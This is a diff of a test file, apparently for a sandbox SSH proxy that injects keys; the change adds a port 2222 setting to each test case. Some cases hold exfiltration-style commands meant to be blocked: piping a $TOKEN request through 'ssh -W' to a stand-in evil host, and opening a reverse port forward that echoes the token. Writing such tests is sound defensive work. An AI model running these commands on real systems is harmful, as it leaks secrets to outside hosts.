@@ -116,14 +116,14 @@ def logins(secrets):
     proxy = lambda known: binding("ssh", "ssh_proxy", "ssh-key", sandboxPublicKeys=[secrets.inside_key], upstreamUsername="root", knownHosts=[known])
     git = f'GIT_SSH_COMMAND="{SSH}" git ls-remote ssh://someone@good.test:2222{secrets.repository}'
     yield Row("git over SSH without a key that fits", None, git)
-    yield Row("git over SSH with a key that the sandbox does not have", use(proxy(known), protocol="ssh"), git, says="refs/heads/main", saw="sshd: .*Accepted publickey for root")
-    yield Row("ssh with a key that the sandbox does not have", use(proxy(known), protocol="ssh"), f"echo input | {SSH} -p 2222 someone@good.test 'cat; echo $((6 * 7)); exit 0'", says="input 42|input\\s42", saw="sshd: .*Accepted publickey for root")
+    yield Row("git over SSH with a key that the sandbox does not have", use(proxy(known), protocol="ssh", ports=[{"port": 2222}]), git, says="refs/heads/main", saw="sshd: .*Accepted publickey for root")
+    yield Row("ssh with a key that the sandbox does not have", use(proxy(known), protocol="ssh", ports=[{"port": 2222}]), f"echo input | {SSH} -p 2222 someone@good.test 'cat; echo $((6 * 7)); exit 0'", says="input 42|input\\s42", saw="sshd: .*Accepted publickey for root")
     other = f'ssh-keygen -q -t ed25519 -N "" -f /tmp/other && {SSH.replace(f"{HOME}/inside", "/tmp/other")} -p 2222 someone@good.test true'
-    yield Row("ssh with a key that the policy does not know", use(proxy(known), protocol="ssh"), other, unseen="Accepted publickey")
-    yield Row("ssh with such a key goes no further", use(proxy(known), protocol="ssh"), f"printf 'GET /%s HTTP/1.0\\r\\nHost: x\\r\\n\\r\\n' $TOKEN | {SSH} -p 2222 -W {EVIL}:80 someone@good.test")
-    yield Row("ssh with such a key opens no port", use(proxy(known), protocol="ssh"), f"{SSH} -p 2222 -o ExitOnForwardFailure=yes -R 0:127.0.0.1:80 someone@good.test echo $TOKEN")
+    yield Row("ssh with a key that the policy does not know", use(proxy(known), protocol="ssh", ports=[{"port": 2222}]), other, unseen="Accepted publickey")
+    yield Row("ssh with such a key goes no further", use(proxy(known), protocol="ssh", ports=[{"port": 2222}]), f"printf 'GET /%s HTTP/1.0\\r\\nHost: x\\r\\n\\r\\n' $TOKEN | {SSH} -p 2222 -W {EVIL}:80 someone@good.test")
+    yield Row("ssh with such a key opens no port", use(proxy(known), protocol="ssh", ports=[{"port": 2222}]), f"{SSH} -p 2222 -o ExitOnForwardFailure=yes -R 0:127.0.0.1:80 someone@good.test echo $TOKEN")
     forged = f"[good.test]:2222 {secrets.inside_key}"
-    yield Row("git over SSH to a server that is not known", use(proxy(forged), protocol="ssh"), git, unseen="Accepted publickey")
+    yield Row("git over SSH to a server that is not known", use(proxy(forged), protocol="ssh", ports=[{"port": 2222}]), git, unseen="Accepted publickey")
 
 
 def sources(secrets):
